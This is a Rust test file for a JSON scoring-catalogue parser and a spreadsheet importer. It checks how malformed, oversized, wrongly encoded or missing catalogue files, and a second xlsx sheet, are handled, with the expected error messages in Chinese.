    // There is no format version: a field the format does not know is
    // refused by name.
    let e = catalogue_error(&edited(|c| c["formatVersion"] = 99.into()));
    assert_eq!(e.code(), "CATALOGUE_UNREADABLE");
    assert!(
        e.to_string().contains("未知字段") && e.to_string().contains("formatVersion"),
        "{e}"
    );
    let text = DEFAULT_CATALOGUE_JSON.replacen("{", "{\"id\": \"twice\",", 1);
    let e = catalogue_error(&text);
    assert!(e.to_string().contains("字段重复"), "{e}");
    for version in ["", "  ", "1\u{0}", &"9".repeat(65)] {
        let e = catalogue_error(&edited(|c| c["version"] = version.into()));
        assert_eq!(e.code(), "CATALOGUE_INVALID", "{version:?}");
        assert!(e.to_string().contains("版本号"), "{e}");
    }
    let e = catalogue_error(&edited(|c| {
        c["domains"][0]["criteria"][0]["points"] = "3".into()
    }));
    assert!(e.to_string().contains("类型或取值不符"), "{e}");
}

#[test]
fn duplicate_ids_absurd_points_and_dangling_references_are_refused_by_id() {
    let e = catalogue_error(&edited(|c| {
        let id = c["domains"][0]["criteria"][0]["id"].clone();
        c["domains"][2]["criteria"][1]["id"] = id;
        let d = c["domains"][0]["id"].clone();
        c["domains"][1]["id"] = d;
    }));
    let m = e.to_string();
    assert!(
        m.contains("评价项编号重复") && m.contains("领域编号重复"),
        "{m}"
    );
    // Points that would overflow a sum or the scoring in quarters.
    let e = catalogue_error(&edited(|c| {
        c["domains"][0]["criteria"][0]["points"] = i64::MAX.into();
        c["domains"][0]["criteria"][1]["points"] = i64::MAX.into();
    }));
    let m = e.to_string();
    assert!(
        m.contains("分值不能超过 100") && m.contains("总分不能超过"),
        "{m}"
    );
    // Many criteria of 100 each: each allowed, the total is not.
    let e = catalogue_error(&edited(|c| {
        for d in c["domains"].as_array_mut().unwrap() {
            for k in d["criteria"].as_array_mut().unwrap() {
                k["points"] = 100.into();
            }
        }
    }));
    assert!(e.to_string().contains("总分不能超过 1000"), "{e}");
    // The default must total 100 (a loaded one may not): 99 is refused.
    let text = edited(|c| c["domains"][0]["criteria"][0]["points"] = 1.into());
    let total = Catalogue::parse(&text, "x.json", false)
        .unwrap()
        .total_points();
    if total != 100 {
        let e = Catalogue::parse(&text, "default.json", true).unwrap_err();
        assert!(e.to_string().contains("总分须为 100"), "{e}");
    }
    // References to a source, a criterion or a coverage item that do not
    // exist. (Criteria sit inside their domain: there is no domain
    // reference to dangle.)
    let e = catalogue_error(&edited(|c| {
        c["domains"][0]["criteria"][0]["basis"][0]["source"] = "NOPE".into();
        c["quickCheck"][0]["answers"][0]["sets"][0]["criterion"] = "D99.9".into();
        c["domains"][0]["criteria"][0]["tags"] = serde_json::json!(["zz-9"]);
        c["domains"][0]["criteria"][0]["derive"] =
            serde_json::json!({"rule": "core_controls", "done": 2000, "partial": -1});
    }));
    let m = e.to_string();
    for needle in ["“NOPE”", "“D99.9”", "“zz-9”", "推导阈值"] {
        assert!(m.contains(needle), "{needle}: {m}");
    }
    // An empty catalogue.
    let e = catalogue_error(&edited(|c| c["domains"] = serde_json::json!([])));
    assert!(e.to_string().contains("没有任何领域"), "{e}");
}

#[test]
fn a_catalogue_file_that_is_too_large_not_utf8_or_missing_is_refused_unread() {
    let dir = tempfile::tempdir().unwrap();
    let big = dir.path().join("big.json");
    let f = std::fs::File::create(&big).unwrap();
    f.set_len(MAX_CATALOGUE_BYTES + 1).unwrap();
    let e = Catalogue::load_file(&big).unwrap_err();
    assert_eq!(e.code(), "CATALOGUE_INVALID");
    assert!(
        e.to_string().contains("上限") && e.to_string().contains("big.json"),
        "{e}"
    );
    // The same text handed to the parser.
    let e = catalogue_error(&" ".repeat(MAX_CATALOGUE_BYTES as usize + 1));
    assert!(e.to_string().contains("上限"), "{e}");

    let gbk = dir.path().join("gbk.json");
    let (bytes, _, _) = encoding_rs::GB18030.encode(DEFAULT_CATALOGUE_JSON);
    std::fs::File::create(&gbk)
        .unwrap()
        .write_all(&bytes)
        .unwrap();
    let e = Catalogue::load_file(&gbk).unwrap_err();
    assert!(e.to_string().contains("UTF-8"), "{e}");

    let e = Catalogue::load_file(&dir.path().join("none.json")).unwrap_err();
    assert_eq!(e.code(), "FILE_UNREADABLE");
    assert!(e.to_string().contains("不存在"), "{e}");

    let ok = dir.path().join("ok.json");
    std::fs::write(&ok, DEFAULT_CATALOGUE_JSON).unwrap();
    assert_eq!(
        Catalogue::load_file(&ok).unwrap(),
        Catalogue::default_catalogue().unwrap()
    );
}

#[test]
fn only_the_first_sheet_is_scanned_for_formulas_and_merges() {
    use rust_xlsxwriter::Format;
    let mut e = env();
    let mut book = sheet_with_head();
    let sheet = book.worksheet_from_index(0).unwrap();
    for (c, v) in ["", "第一张表的密点", "技术信息", "核心"]
        .iter()
        .enumerate()
    {
        sheet.write_string(1, c as u16, *v).unwrap();
    }
    let notes = book.add_worksheet();
    notes.write_formula(0, 0, "=1+1").unwrap();
    notes
        .merge_range(2, 0, 3, 1, "备注", &Format::new())
        .unwrap();
    let out = import(&mut e, "两张表.xlsx", &book.save_to_buffer().unwrap()).unwrap();
    assert_eq!(out.imported, 1, "{:?}", out.errors);
}
